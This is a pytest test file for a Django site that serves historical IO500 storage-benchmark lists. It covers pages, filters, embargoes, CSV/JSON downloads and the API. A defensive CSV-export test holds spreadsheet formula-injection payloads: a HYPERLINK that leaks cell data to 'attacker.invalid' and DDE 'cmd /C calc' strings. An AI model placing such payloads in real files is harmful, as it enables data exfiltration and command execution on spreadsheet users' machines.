"""List pages, downloads and the list API on the imported IO500 history."""

from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import Any

import pytest
from django.test import Client
from django.urls import reverse
from django.utils.html import escape

from registry.lists.facet_names import canonical
from registry.models import ListSnapshot


def page(client: Client, url: str, **params: str) -> Any:
    response = client.get(url, params)
    assert response.status_code == 200, response.content[:500]
    return response


def test_home_shows_the_newest_published_ranked_list(client, imported_history):
    response = page(client, "/")
    # io500.org's newest public list: SC24's Research list (its `io500` type), read from its plots.
    assert response.context["snapshot"].release.name == "SC24"
    assert response.context["snapshot"].kind == "research"
    html = response.content.decode()
    assert "Pengcheng Laboratory" in html
    assert 'data-kind="production"' in html and "(not published)" in html


def test_a_list_page_shows_every_entry_with_tabs_for_the_release(client, imported_history):
    response = page(client, "/lists/sc19/io500/")
    rows = response.context["rows"]
    assert [row["rank"] for row in rows] == list(range(1, 23))
    tabs = [(tab["kind"], tab["published"]) for tab in response.context["tabs"]]
    assert tabs == [("io500", True), ("ten-node", True), ("full", True), ("historical", True), ("scc", True)]
    html = response.content.decode()
    for heading in ("Institution", "Storage vendor", "File system type", "Client nodes", "Total client proc.",
                    "BW (GiB/s)", "MD (kIOP/s)", "BoF"):  # fmt: skip
        assert heading in html


def test_rows_carry_the_published_values(client, imported_history):
    first = page(client, "/lists/isc20/io500/").context["rows"][0]
    assert first["rank"] == 1
    assert (first["system"], first["institution"], first["filesystem"]) == ("Wolf", "Intel", "DAOS")
    assert first["score"] == pytest.approx(1792.98)
    assert (first["client_nodes"], first["total_procs"]) == (52, 1664)
    assert first["release"] == "ISC20"


def test_a_list_that_was_not_published_says_so(client, imported_history):
    html = page(client, "/lists/isc23/ten-node-production/").content.decode()
    # The release's one sentence on what is public, then why the registry cannot rebuild this kind.
    assert "The registry does not rebuild the 10 Node Production list" in html
    assert "The 10 Node Challenge list of this release is reconstructed from the node counts" in html
    html = page(client, "/lists/isc21/production/").content.decode()
    assert "No Production list was published for ISC21." in html


def test_unknown_releases_and_kinds_are_not_found(client, imported_history):
    missing = client.get("/lists/sc42/io500/")
    assert missing.status_code == 404
    assert escape('There is no release "sc42".') in missing.content.decode()
    assert client.get("/lists/sc19/weekly/").status_code == 404
    assert client.get("/lists/sc42/io500.csv").status_code == 404


def test_the_release_picker_opens_the_release_page_which_links_its_lists(client, imported_history):
    assert client.get("/lists/", {"release": "isc20"}).url == "/lists/isc20/"
    page = client.get("/lists/isc20/")
    assert page.status_code == 200 and 'href="/lists/isc20/io500/"' in page.content.decode()


def test_corrected_lists_show_the_newest_version_and_link_the_older(client, imported_history):
    response = page(client, "/lists/sc18/io500/")
    assert response.context["snapshot"].label == "SC18*"
    assert len(response.context["rows"]) == 25
    assert "?version=1" in response.content.decode()
    older = page(client, "/lists/sc18/io500/", version="1")
    assert older.context["snapshot"].label == "SC18"
    assert len(older.context["rows"]) == 26


def test_sorting_by_a_column_keeps_the_official_ranks(client, imported_history):
    rows = page(client, "/lists/isc21/io500/", o="-bw").context["rows"]
    bws = [row["bw"] for row in rows]
    assert bws == sorted(bws, reverse=True)
    assert sorted(row["rank"] for row in rows) == list(range(1, 59))
    names = [
        row["institution"].lower()
        for row in page(client, "/lists/isc21/io500/", o="institution").context["rows"]
    ]
    assert names == sorted(names)


def test_filters_live_in_the_url_and_combine(client, imported_history):
    rows = page(client, "/lists/isc21/full/", filesystem="lustre", nodes_min="10", nodes_max="100").context[
        "rows"
    ]
    assert rows
    # Every spelling of Lustre io500.org recorded ("Lustre", "lustre", "Lustre1", ...), each row as recorded.
    assert all(canonical("filesystem", row["filesystem"]) == "Lustre" for row in rows)
    assert all(10 <= row["client_nodes"] <= 100 for row in rows)
    by_year = page(client, "/lists/isc21/full/", year="2019").context["rows"]
    assert by_year and {row["release"] for row in by_year} == {"SC19"}
    searched = page(client, "/lists/isc21/io500/", q="pengcheng").context["rows"]
    assert searched and all("Pengcheng" in row["institution"] for row in searched)
    vendor = page(client, "/lists/isc21/io500/", vendor="ddn").context["rows"]
    assert vendor and all(row["storage_vendor"].lower() == "ddn" for row in vendor)


def test_a_filter_that_matches_nothing_says_so(client, imported_history):
    response = page(client, "/lists/isc21/io500/", q="no-such-system-anywhere")
    assert response.context["rows"] == []
    assert "No entry of this list matches the search and filters." in response.content.decode()


def test_bad_filter_values_are_explained_not_crashed(client, imported_history):
    response = page(client, "/lists/isc21/io500/", nodes_min="ten")
    assert response.context["rows"] == []
    assert "Enter a number." in response.content.decode()


def test_custom_weights_add_a_column_without_changing_the_official_order(client, imported_history):
    official = page(client, "/lists/isc21/io500/").context["rows"]
    custom = page(client, "/lists/isc21/io500/", w_bw="1", w_md="1").context["rows"]
    assert [row["rank"] for row in custom] == [row["rank"] for row in official]
    for row in custom:
        assert row["custom_score"] == pytest.approx((row["bw"] * row["md"]) ** 0.5)
    bandwidth_only = page(client, "/lists/isc21/io500/", w_bw="1", w_md="0", o="-custom").context["rows"]
    assert [row["custom_score"] for row in bandwidth_only] == pytest.approx(
        [row["bw"] for row in bandwidth_only]
    )
    assert [row["custom_rank"] for row in bandwidth_only] == list(range(1, 59))
    assert [row["rank"] for row in bandwidth_only] != list(range(1, 59))


def test_bad_custom_weights_are_explained(client, imported_history):
    response = page(client, "/lists/isc21/io500/", w_bw="-3", w_md="1")
    assert "The custom weights must lie between 0 and 100." in response.content.decode()
    assert len(response.context["rows"]) == 58


def test_the_csv_download_has_the_rows_of_the_page(client, imported_history):
    response = page(client, "/lists/sc19/io500.csv", filesystem="Lustre")
    assert response["Content-Type"].startswith("text/csv")
    assert 'filename="io500-sc19-io500.csv"' in response["Content-Disposition"]
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    shown = page(client, "/lists/sc19/io500/", filesystem="Lustre").context["rows"]
    assert [int(row["rank"]) for row in rows] == [row["rank"] for row in shown]
    assert rows[0].keys() >= {"rank", "id", "io500_id", "system", "institution", "filesystem", "client_nodes",
                              "score", "bw", "md"}  # fmt: skip


def test_the_json_download_and_the_api_answer_the_same_rows(client, imported_history):
    download = page(client, "/lists/isc20/ten-node.json").json()
    api = page(client, reverse("registry-api:list", kwargs={"release": "isc20", "kind": "ten-node"})).json()
    assert download == api
    assert download["release"] == "ISC20" and download["kind"] == "ten-node" and download["count"] == 39
    row = download["rows"][0]
    for key in (
        "rank",
        "id",
        "io500_id",
        "system",
        "institution",
        "filesystem",
        "client_nodes",
        "score",
        "bw",
        "md",
    ):
        assert key in row
    assert row["io500_id"] is not None


def test_the_api_explains_missing_lists(client, imported_history):
    response = client.get("/api/v1/lists/isc23/ten-node-production/")
    assert response.status_code == 404
    assert "No ten-node-production list was published for ISC23." in response.json()["detail"]


@pytest.mark.parametrize("url", ["/lists/isc21/historical/", "/lists/sc17/io500/"])
def test_the_query_count_does_not_grow_with_the_rows(
    client, imported_history, django_assert_max_num_queries, url
):
    # 12: the list page also reads what io500.org's public SQL patches changed in the list, the
    # verdicts and reproducibility levels of its entries for its citation, and the changes since the
    # previous release's list (the previous version, then the entries of both), whether it corrects an
    # earlier version of itself (one more); and, once per list generation, what is public of each
    # release (registry.lists.public_record: two queries, then cached). None of them grows with rows.
    with django_assert_max_num_queries(15):
        page(client, url, w_bw="2", w_md="1", o="-custom")


def test_a_cached_list_answers_with_fewer_queries(client, imported_history, django_assert_max_num_queries):
    page(client, "/lists/isc21/historical.json")
    with django_assert_max_num_queries(3):
        page(client, "/lists/isc21/historical.json")


def test_a_list_published_later_is_served_at_once(client, imported_history):
    from registry.lists.services import list_build, list_publish
    from registry.models import Release

    assert client.get("/lists/isc23/ten-node-research.json").status_code == 404
    release = Release.objects.get(slug="isc23")
    list_publish(snapshot=list_build(release=release, kind="ten-node-research"))
    snapshot = ListSnapshot.objects.get(release=release, kind="ten-node-research")
    assert page(client, "/lists/isc23/ten-node-research.json").json()["count"] == snapshot.entries.count() > 0


@pytest.mark.django_db
def test_the_home_page_explains_how_to_load_lists_when_none_is_published(client: Client) -> None:
    response = client.get("/")
    assert response.status_code == 200
    assert "No list has been published yet." in response.content.decode()


def test_every_page_has_the_site_navigation_and_the_source_citation(
    client: Client, imported_history: Path
) -> None:
    html = page(client, "/lists/sc17/io500/").content.decode()
    assert 'href="/submissions/upload/"' in html
    assert 'href="/api/docs/"' in html
    assert "Log in" in html
    assert "io500.org" in html and "Cite the IO500 lists" in html


def test_a_list_of_a_release_under_embargo_stays_hidden_until_the_embargo_ends(
    client: Client, imported_history: Path
) -> None:
    import datetime

    from django.utils import timezone

    from registry.models import Release

    release = Release.objects.get(slug="isc21")
    release.embargo_end = timezone.now() + datetime.timedelta(days=1)
    release.save(update_fields=["embargo_end"])
    html = page(client, "/lists/isc21/io500/").content.decode()
    assert "The IO500 list of ISC21 has not been published yet." in html
    assert client.get("/api/v1/lists/isc21/io500/").status_code == 404
    assert page(client, "/").context["snapshot"].release.name == "SC24"

    release.embargo_end = timezone.now() - datetime.timedelta(minutes=1)
    release.save(update_fields=["embargo_end"])
    assert len(page(client, "/lists/isc21/io500/").context["rows"]) == 58


def test_a_release_picked_by_a_name_no_url_can_hold_is_a_404_with_the_reason(client, db):
    response = client.get("/lists/", {"release": "foo-bar"})
    assert response.status_code == 404
    assert "There is no release &quot;foo-bar&quot;" in response.content.decode()
    for odd in ("../sc19", "sc19\x00", "\u017fc19", "sc 19"):
        assert client.get("/lists/", {"release": odd}).status_code == 404, odd


FORMULAS = {
    "system": '=HYPERLINK("http://attacker.invalid/?"&A1,"Click for the full results")',
    "institution": "+cmd|' /C calc'!A0",
    "storage_vendor": "@SUM(1+1)*cmd|' /C calc'!A0",
    "filesystem": "-2+3+cmd|' /C calc'!A0",
}


def test_the_csv_download_never_writes_a_cell_a_spreadsheet_would_run(client, db):
    from tests.factories import make_release, make_storage_system, make_submission, publish_list

    release = make_release(name="SC39")
    system = make_storage_system(
        name=FORMULAS["system"],
        institution__name=FORMULAS["institution"],
        vendor=FORMULAS["storage_vendor"],
        filesystem_type=FORMULAS["filesystem"],
    )
    # A tab starts a cell in some spreadsheets; a separator inside quotes must not start a new one.
    other = make_storage_system(name="\t=1+1", institution__name="Lab; =1+1", vendor="Plain -1.5 Inc")
    publish_list(
        release,
        "io500",
        [make_submission(release=release, storage_system=s, bw=1.5, md=2.0) for s in (system, other)],
    )
    text = client.get("/lists/sc39/io500.csv").content.decode()
    rows = list(csv.DictReader(io.StringIO(text)))
    for field, formula in FORMULAS.items():
        assert rows[0][field] == f"'{formula}"
    assert rows[1]["system"] == "'\t=1+1"
    assert rows[1]["institution"] == "Lab; =1+1" and rows[1]["storage_vendor"] == "Plain -1.5 Inc"
    # Numbers stay numbers (unquoted); text is quoted.
    line = text.splitlines()[1]
    assert ",1.5,2.0," in line and "\"'=HYPERLINK(" in line
    assert rows[0]["rank"] == "1" and rows[0]["list_provenance"] == "published_here"


def test_list_pages_run_no_inline_script_or_event_handler(client, db):
    from tests.support.chart_data import build_history

    build_history()
    html = client.get("/lists/isc41/io500/").content.decode()
    assert "onchange=" not in html and "<script>" not in html
    assert "data-auto-submit" in html and "frontend/js/auto-submit.js" in html


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (-1.5, -1.5),  # a number cannot run anything
        ("-1.5", "-1.5"),
        ("+3e5", "+3e5"),
        ("-1.5 GiB", "'-1.5 GiB"),
        ("  =1+1", "'  =1+1"),  # spreadsheets skip the spaces
        ("\uff1dcmd()", "'\uff1dcmd()"),  # a full-width equals sign
        ("\r=1", "'\r=1"),
        ("Lustre", "Lustre"),
        (None, ""),
        (True, "True"),
    ],
)
def test_a_cell_starting_a_formula_is_written_as_text(value, written):
    from frontend.lists.csv_cells import safe_cell

    assert safe_cell(value) == written
